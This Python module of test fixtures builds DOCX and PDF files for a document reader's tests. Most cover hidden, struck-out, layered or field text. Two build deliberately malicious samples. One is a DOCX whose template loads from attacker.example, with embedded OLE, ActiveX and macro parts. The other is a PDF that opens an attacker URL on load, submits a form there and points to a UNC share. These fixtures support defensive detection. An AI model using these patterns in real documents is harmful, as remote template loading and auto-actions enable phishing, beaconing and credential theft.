"""Documents for the tests: ordinary ones, and malicious ones."""

import base64
import io
import zipfile
from functools import cache
from typing import Any

import docx
from docx.enum.text import WD_COLOR_INDEX
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Pt, RGBColor
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    RectangleObject,
    TextStringObject,
)


@cache
def _template() -> bytes:
    document = docx.Document()
    styles = document.styles.element
    for style in list(styles):
        if style.get(qn("w:type")) == "table" and style.get(qn("w:default")) is None:
            styles.remove(style)
    of_office_2010 = [
        key for key, rel in document.part.rels.items() if rel.reltype.endswith("stylesWithEffects")
    ]
    for key in of_office_2010:
        del document.part.rels[key]
    return _saved(document)


def new() -> Any:
    """An empty document, without the hundred table styles of python-docx's template. They take 0.2 s to read."""
    return docx.Document(io.BytesIO(_template()))


def docx_of(*paragraphs: str) -> bytes:
    """A DOCX file of these paragraphs."""
    document = new()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    return _saved(document)


def _saved(document: Any) -> bytes:
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def docx_of_table(*cells: str) -> bytes:
    """A DOCX file with a table between two paragraphs."""
    document = new()
    document.add_paragraph("Before")
    row = document.add_table(rows=1, cols=len(cells)).rows[0]
    for cell, text in zip(row.cells, cells, strict=True):
        cell.text = text
    document.add_paragraph("After")
    return _saved(document)


def docx_of_all_kinds() -> bytes:
    """A DOCX file with headings, lists, bold, italics, a table, a link and a picture."""
    document = new()
    document.add_heading("Tides", 0)
    document.add_heading("Where", 1)
    document.add_heading("How often", 5)
    paragraph = document.add_paragraph("We ")
    paragraph.add_run("measure").bold = True
    paragraph.add_run(" and ")
    paragraph.add_run("publish").italic = True
    paragraph.add_run(" <them>.")
    for text, style in (("Suva", "List Bullet"), ("Hourly", "List Bullet"), ("First", "List Number")):
        document.add_paragraph(text, style=style)
    document.add_picture(io.BytesIO(PIXEL))
    document.add_table(rows=1, cols=1).rows[0].cells[0].text = "1.5 m"
    return _saved(document)


PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def with_a_footnote(document: bytes, note: str) -> bytes:
    """A DOCX file whose first paragraph has a footnote."""
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
    said = f'<w:footnote w:id="2"><w:p><w:r><w:t>{note}</w:t></w:r></w:p></w:footnote>'
    with zipfile.ZipFile(io.BytesIO(document)) as packed:
        body = packed.read("word/document.xml").decode()
        links = packed.read("word/_rels/document.xml.rels").decode()
    reference = '<w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
    link = f'<Relationship Id="rNote" Type="{kind}" Target="footnotes.xml"/></Relationships>'
    return repacked(
        document,
        word__document_dot_xml=body.replace("</w:p>", reference, 1).encode(),
        word___rels__document_dot_xml_dot_rels=links.replace("</Relationships>", link).encode(),
        word__footnotes_dot_xml=f"<w:footnotes {space}>{said}</w:footnotes>".encode(),
    )


def repacked(document: bytes, **parts: bytes) -> bytes:
    """A DOCX file with other parts, named by arguments with `__` for `/` and `_dot_` for `.`."""
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(document)) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.namelist():
            if part not in named:
                new.writestr(part, old.read(part))
        for name, content in named.items():
            new.writestr(name, content)
    return file.getvalue()


def with_numbered_parts(document: bytes) -> bytes:
    """A DOCX file whose text and styles are in `word/document2.xml` and `word/styles2.xml`."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as old, zipfile.ZipFile(file, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            for part in ("document.xml", "styles.xml"):
                numbered = part.replace(".", "2.")
                name = name.replace(part, numbered)
                if name.endswith((".rels", "Types].xml")):
                    content = content.replace(part.encode(), numbered.encode())
            new.writestr(name, content)
    return file.getvalue()


def zip_of(*names: str) -> bytes:
    """A zip file that is not a document."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for name in names:
            packed.writestr(name, "x")
    return file.getvalue()


def pdf_writer(*pages: str) -> PdfWriter:
    """A writer with a PDF file of one line on each page."""
    writer = PdfWriter()
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    for text in pages:
        page = writer.add_blank_page(595, 842)
        fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET".encode())
        page[NameObject("/Contents")] = writer._add_object(content)
    return writer


def pdf_of(*pages: str) -> bytes:
    """A PDF file with a line on each page."""
    return written(pdf_writer(*pages))


def written(writer: PdfWriter) -> bytes:
    """The bytes of a writer's PDF file."""
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def with_a_remote_template_and_programs(document: bytes) -> bytes:
    """A DOCX file that loads its template from elsewhere, and embeds OLE, ActiveX and a program."""
    relationships = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    template = (
        f'<Relationships xmlns="{relationships}"><Relationship Id="rId1" Type="{office}/attachedTemplate"'
        ' Target="https://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(
        document,
        word___rels__settings_dot_xml_dot_rels=template.encode(),
        word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0 a program",
        word__embeddings__Microsoft_Word_Document_dot_docm=zip_of("word/vbaProject.bin"),
        word__activeX__activeX1_dot_xml=b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        word__activeX__activeX1_dot_bin=b"a control",
    )


def pdf_with_actions(*pages: str) -> bytes:
    """A PDF file that opens an address when it is opened, sends a form, and goes to another file."""
    writer = pdf_writer(*pages)

    def action(kind: str, key: str, value: str) -> DictionaryObject:
        return DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
        )

    writer._root_object[NameObject("/OpenAction")] = action("/URI", "/URI", "https://attacker.example/")
    links = [
        action("/SubmitForm", "/F", "https://attacker.example/form"),
        action("/GoToR", "/F", "\\\\attacker.example\\share"),
    ]
    annotations = [DictionaryObject({NameObject("/A"): link}) for link in links]
    writer.pages[0][NameObject("/Annots")] = ArrayObject(annotations)
    return written(writer)


def docx_with_what_is_not_shown() -> bytes:
    """A DOCX file with hidden and struck-out text, by runs and by styles, revisions, a comment, a picture, a table."""
    document = new()
    styles = document.styles
    styles.add_style("Secret", 1).font.hidden = True
    styles.add_style("Dropped", 2).font.strike = True
    styles.add_style("Dropped too", 2).base_style = styles["Dropped"]
    paragraph = document.add_paragraph("We agree")
    for switch in ("hidden", "strike", "double_strike"):
        setattr(paragraph.add_run(f" {switch} refuse").font, switch, True)
    paragraph.add_run(" by style", "Dropped too")
    paragraph.add_run(" with this.").font.strike = False
    document.add_paragraph("Our red line is ten.", "Secret").add_run(" Shown.").font.hidden = False
    document.add_picture(io.BytesIO(PIXEL))
    document.add_comment(paragraph.runs[0], "Do we?", "Ana", "A")
    outer = document.add_table(rows=1, cols=2).rows[0]
    outer.cells[0].text = "One"
    outer.cells[1].add_table(rows=1, cols=1).rows[0].cells[0].text = "Two"
    octets = _saved(document)
    with zipfile.ZipFile(io.BytesIO(octets)) as packed:
        body = packed.read("word/document.xml").decode()
    revised = (
        "<w:p><w:del><w:r><w:delText>Never. Ever.</w:delText></w:r></w:del><w:ins><w:r><w:t>Always.</w:t></w:r></w:ins>"
        "<w:moveFrom><w:r><w:t>Moved.</w:t></w:r></w:moveFrom></w:p><w:tbl><w:tr><w:trPr><w:del/></w:trPr>"
        "<w:tc><w:p><w:r><w:t>Gone.</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:sectPr"
    )
    return repacked(octets, word__document_dot_xml=body.replace("<w:sectPr", revised, 1).encode())


def docx_with_text_that_nobody_sees() -> bytes:
    """A DOCX file with "Hidden" runs, white or tiny, by runs and by styles, and "Shown" ones that are so too."""
    document = new()
    styles, white = document.styles, RGBColor(0xFF, 0xFF, 0xFF)
    styles.add_style("Pale", 2).font.color.rgb = white
    styles.add_style("Box", 1).element.get_or_add_pPr().append(_shading("1F3864"))
    for style, shown in ((None, "Hidden "), ("Box", "Shown ")):
        paragraph = document.add_paragraph("One. ", style)
        paragraph.add_run(shown).font.color.rgb = white
        paragraph.add_run(shown, "Pale")
    paragraph.add_run("Hidden ").font.size = Pt(1)
    marked = paragraph.add_run("Shown ", "Pale").font
    marked.size, marked.highlight_color = Pt(3), WD_COLOR_INDEX.BLUE
    arabic = paragraph.add_run("Shown ").font
    arabic.size, arabic.rtl = Pt(1), True
    pictured = document.add_paragraph("Two. ").add_run()
    pictured.font.size = Pt(1)
    pictured.add_picture(io.BytesIO(PIXEL))
    cell = document.add_table(rows=1, cols=1).rows[0].cells[0]
    cell.paragraphs[0].add_run("Shown", "Pale")
    return _saved(document)


def _shading(fill: str) -> Any:
    shading = OxmlElement("w:shd")
    shading.set(qn("w:val"), "clear")
    shading.set(qn("w:fill"), fill)
    return shading


def docx_with_what_is_around_text() -> bytes:
    """A DOCX file whose text is in fields, runs of another direction, rubies, newer boxes and deleted cells."""
    octets = _saved(new())
    with zipfile.ZipFile(io.BytesIO(octets)) as packed:
        body = packed.read("word/document.xml").decode()
    shapes = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"
    other = "http://schemas.openxmlformats.org/markup-compatibility/2006"

    def run(text: str) -> str:
        return f"<w:r><w:t>{text}</w:t></w:r>"

    box = f"<s:txbx xmlns:s='{shapes}'><w:txbxContent><w:p>{run('Boxed.')}</w:p></w:txbxContent></s:txbx>"
    box = f"<w:drawing>{box}</w:drawing>"
    said = (
        f"<w:p><w:fldSimple w:instr='DATE'>{run('Today ')}</w:fldSimple><w:dir w:val='rtl'>{run('شكرا ')}</w:dir>"
        f"<w:bdo w:val='ltr'>{run('thanks ')}</w:bdo><w:r><w:ruby><w:rubyPr/><w:rt>{run('あす')}</w:rt>"
        f"<w:rubyBase>{run('明日')}</w:rubyBase></w:ruby></w:r><w:r><w:cr/></w:r>{run('end')}</w:p>"
        f"<w:p><w:r><m:AlternateContent xmlns:m='{other}'><m:Choice Requires='s'>{box}</m:Choice>"
        f"</m:AlternateContent></w:r></w:p>"
        f"<w:p><w:r>{box}</w:r></w:p>"
        f"<w:tbl><w:tr><w:tc><w:tcPr><w:cellDel/></w:tcPr><w:p>{run('Gone.')}</w:p></w:tc>"
        f"<w:tc><w:p>{run('Stays.')}</w:p></w:tc></w:tr></w:tbl><w:sectPr"
    )
    return repacked(octets, word__document_dot_xml=body.replace("<w:sectPr", said, 1).encode())


def docx_with_headers_and_an_inserted_file() -> bytes:
    """A DOCX file with a letterhead (the same on the first page), a footer with the page number, and inserted HTML."""
    document = new()
    document.add_paragraph("We agree.")
    section = document.sections[0]
    section.different_first_page_header_footer = True
    for header in (section.header, section.first_page_header):
        header.paragraphs[0].text = "Permanent Mission to the Hall"
    section.footer.paragraphs[0].text = "4 / 12"
    octets = _saved(document)
    with zipfile.ZipFile(io.BytesIO(octets)) as packed:
        body = packed.read("word/document.xml").decode()
    chunk = "<w:altChunk r:id='rChunk'/><w:sectPr"
    return repacked(
        octets,
        word__document_dot_xml=body.replace("<w:sectPr", chunk, 1).encode(),
        word__afchunk_dot_html=b"<p>Never seen.</p>",
    )


def docx_with_fields_and_controls() -> bytes:
    """A DOCX file with a field in another one's instruction, a ticked box, a page break and a field without an end."""
    octets = _saved(new())
    with zipfile.ZipFile(io.BytesIO(octets)) as packed:
        body = packed.read("word/document.xml").decode()
    word_2010 = "http://schemas.microsoft.com/office/word/2010/wordml"

    def field(*parts: str) -> str:
        marks = {
            mark: f"<w:r><w:fldChar w:fldCharType='{mark}'/></w:r>" for mark in ("begin", "separate", "end")
        }
        return "".join(marks.get(part) or part for part in parts)

    def run(text: str, kind: str = "t") -> str:
        return f"<w:r><w:{kind} xml:space='preserve'>{text}</w:{kind}></w:r>"

    inner = field("begin", run("MERGEFIELD Rank", "instrText"), "separate", run("Secret"), "end")
    choice = field(
        "begin", run("IF", "instrText"), inner, run('= "a"', "instrText"), "separate", run("shown"), "end"
    )
    box = (
        f"<w:sdt><w:sdtPr><x:checkbox xmlns:x='{word_2010}'><x:checked x:val='1'/></x:checkbox></w:sdtPr>"
        f"<w:sdtContent>{run('☒')}</w:sdtContent></w:sdt>"
    )
    said = (
        f"<w:p>{run('It is ')}{choice}{run('.')}</w:p><w:p>{box}{run(' We agree.')}</w:p>"
        f"<w:p>{run('One')}<w:r><w:br w:type='page'/></w:r>{run('two')}</w:p>"
        f"<w:p>{field('begin', run('TOC', 'instrText'))}{run('Still shown.')}</w:p><w:sectPr"
    )
    return repacked(octets, word__document_dot_xml=body.replace("<w:sectPr", said, 1).encode())


def _drawn(content: str, **entries: Any) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(content.encode())
    stream.update({NameObject(f"/{key}"): value for key, value in entries.items()})
    return stream


def pdf_with_layers() -> bytes:
    """A PDF file with "Shown n" on layers that are on, and "Hidden n" on layers that are off."""
    writer = pdf_writer("")
    page: Any = writer.pages[0]
    groups = {
        name: writer._add_object(DictionaryObject({NameObject("/Type"): NameObject("/OCG")}))
        for name in ("On", "Off")
    }
    both = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/OCMD"),
            NameObject("/OCGs"): ArrayObject([*groups.values()]),
        }
    )
    all_of_them = DictionaryObject({**both, NameObject("/P"): NameObject("/AllOn")})
    named = {**groups, "Any": writer._add_object(both), "All": writer._add_object(all_of_them)}
    at_first = DictionaryObject({NameObject("/OFF"): ArrayObject([groups["Off"]])})
    writer._root_object[NameObject("/OCProperties")] = DictionaryObject(
        {NameObject("/OCGs"): ArrayObject([*groups.values()]), NameObject("/D"): at_first}
    )
    page["/Resources"][NameObject("/Properties")] = DictionaryObject(
        {NameObject(f"/{name}"): group for name, group in named.items()}
    )
    form = {"Type": NameObject("/XObject"), "Subtype": NameObject("/Form"), "Resources": page["/Resources"]}
    inner = "BT /F1 12 Tf 72 600 Td (Shown 4) Tj 0 -60 Td /OC /Off BDC (Hidden 3) Tj EMC ET"
    forms = {
        "Plain": _drawn(inner, **form),
        "Gone": _drawn("BT /F1 12 Tf 72 400 Td (Hidden 4) Tj ET", **form, OC=groups["Off"]),
    }
    page["/Resources"][NameObject("/XObject")] = DictionaryObject(
        {NameObject(f"/{name}"): writer._add_object(drawn) for name, drawn in forms.items()}
    )
    said = (
        "/OC /On BDC (Shown 1) Tj 0 -20 Td EMC",
        "/OC /Off BDC [(Hidd) 20 (en 1)] TJ 0 -20 Td /Span BMC (Hidden 2) Tj 0 -20 Td EMC EMC",
        "/OC /Any BDC (Shown 2) Tj 0 -20 Td EMC /OC /All BDC (Hidden 5) Tj 0 -20 Td EMC",
        "/Span BMC (Shown 3) Tj EMC",
    )
    page[NameObject("/Contents")] = _drawn(f"BT /F1 12 Tf 72 800 Td {' '.join(said)} ET /Plain Do /Gone Do")
    return written(writer)


def pdf_cropped(*operators: str) -> bytes:
    """A PDF file whose visible area is (100, 100) to (300, 300). Forms `/Form` say "In a form." at (150, 150)."""
    writer = pdf_writer("")
    page: Any = writer.pages[0]
    page.cropbox = RectangleObject((100, 100, 300, 300))
    form = {"Type": NameObject("/XObject"), "Subtype": NameObject("/Form"), "Resources": page["/Resources"]}
    drawn = _drawn("BT /F1 12 Tf 50 50 Td (In a form.) Tj ET", **form)
    drawn[NameObject("/Matrix")] = ArrayObject([NumberObject(each) for each in (1, 0, 0, 1, 100, 100)])
    page["/Resources"][NameObject("/XObject")] = DictionaryObject(
        {NameObject("/Form"): writer._add_object(drawn)}
    )
    page[NameObject("/Contents")] = _drawn("\n".join(operators))
    return written(writer)


def pdf_filled_in() -> bytes:
    """A PDF file with a form of which one text and one box are filled in, text typed over its page, and a comment."""
    writer = pdf_writer("Statement of:")

    def field(kind: str, name: str, value: Any) -> Any:
        entries = {"FT": NameObject(f"/{kind}"), "T": TextStringObject(name)} | (
            {"V": value} if value else {}
        )
        return _note("Widget", **entries)

    def _note(kind: str, **entries: Any) -> Any:
        named = {NameObject(f"/{key}"): value for key, value in entries.items()}
        return writer._add_object(
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject(f"/{kind}"),
                    **named,
                }
            )
        )

    fields = [
        field("Tx", "text", TextStringObject("We agree with all of it.")),
        field("Tx", "empty", None),
        field("Btn", "yes", NameObject("/Yes")),
        field("Btn", "no", NameObject("/Off")),
    ]
    notes = [
        _note("FreeText", Contents=TextStringObject("Typed over it.")),
        _note("Text", Contents=TextStringObject("Do we?")),
        _note("Highlight"),
        _note("Link", Contents=TextStringObject("hall.example")),
    ]
    writer.pages[0][NameObject("/Annots")] = ArrayObject([*fields, *notes])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(fields)}
    )
    return written(writer)


def pdf_that_only_one_program_shows() -> bytes:
    """A PDF file whose page says to wait. Its content is an XFA form that only its maker's program shows."""
    writer = pdf_writer("Please wait...")
    writer._root_object[NameObject("/NeedsRendering")] = BooleanObject(True)
    return written(writer)


def pdf_in_numbers_of_glyphs(font: str) -> bytes:
    """A PDF file with a font without a table of its letters: of `Type0`, `Type1` or `Type3`."""
    shown, entries = "<003A0048> Tj 60 0 Td <005700550058> Tj", {"/Encoding": NameObject("/Identity-H")}
    if font != "Type0":
        names = ArrayObject([NumberObject(65), *map(NameObject, ("/g0", "/g1", "/g2"))])
        shown, entries = "(ABC) Tj", {"/Encoding": DictionaryObject({NameObject("/Differences"): names})}
    writer = pdf_writer("")
    page = writer.pages[0]
    described: Any = page["/Resources"]
    described["/Font"][NameObject("/F1")] = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject(f"/{font}"),
            NameObject("/BaseFont"): NameObject("/AAAAAA+Own"),
            **{NameObject(key): value for key, value in entries.items()},
        }
    )
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 12 Tf 72 700 Td {shown} ET".encode())
    page[NameObject("/Contents")] = writer._add_object(content)
    return written(writer)
